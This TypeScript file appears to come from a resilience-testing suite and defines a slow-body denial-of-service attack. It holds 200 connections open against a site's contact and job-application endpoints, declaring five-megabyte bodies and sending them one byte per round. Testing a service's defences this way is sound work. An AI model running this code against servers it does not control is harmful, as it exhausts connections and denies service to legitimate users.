import type { Attack } from './attack.ts'
import { holdConnections } from './held-connections.ts'

const CONNECTIONS = 200
const BODY_BYTES = 5_000_000

const FORM_START = '--x\r\nContent-Disposition: form-data; name="cv"; filename="cv.doc"\r\n\r\n'

/** Bodies that arrive at one byte every five seconds: enquiries, and applications with files. */
export const dripping: Attack = {
  name: 'dripping bodies',
  addresses: [3],
  prepare: async ({ url }) => {
    const { host } = new URL(url)
    const start = (path: string, type: string, body: string) =>
      `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n${body}`
    const texts = [
      start('/api/contact', 'application/json', '{"firstName":"'),
      start('/api/applications', 'multipart/form-data; boundary=x', FORM_START),
    ]
    let opened = 0
    return (from) =>
      holdConnections(url, {
        count: CONNECTIONS,
        from,
        onOpen: (socket) => void socket.write(texts[opened++ % texts.length] ?? ''),
        onRound: (socket) => void socket.write('a'),
      })
  },
}
